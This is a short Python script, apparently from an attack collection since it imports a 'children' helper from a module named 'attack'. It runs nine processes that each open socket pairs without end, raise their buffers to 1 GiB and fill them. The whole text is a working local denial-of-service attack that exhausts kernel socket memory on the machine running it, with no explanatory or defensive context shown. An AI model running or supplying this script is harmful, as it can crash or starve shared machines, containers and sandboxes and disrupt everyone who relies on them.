import socket, time
from attack import children
def fill(_):
    held = []
    try:
        while True:
            a, b = socket.socketpair(); held.append((a, b)); a.setblocking(False)
            for s in (a, b):
                s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 30)
                s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 30)
            try:
                while True: a.send(bytes(65536))
            except BlockingIOError: pass
    except OSError: pass
    time.sleep(1)
children(8, fill)
fill(0)
